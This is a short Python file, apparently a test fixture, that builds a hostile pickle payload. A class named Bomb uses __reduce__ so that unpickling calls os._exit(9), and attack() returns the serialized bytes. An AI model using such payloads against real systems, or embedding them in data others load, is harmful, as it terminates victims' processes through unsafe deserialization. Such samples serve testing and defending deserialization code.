# /// attack
# rows = []
# lives = true
# code = "UNENCODABLE_VALUE"
# ///

import os
import pickle

from hostile import add, spoil, state


class Bomb:
    def __reduce__(self):
        return os._exit, (9,)


def attack(world):
    """Bytes that would act on whoever unpickled them."""
    spoil()
    return pickle.dumps(Bomb())
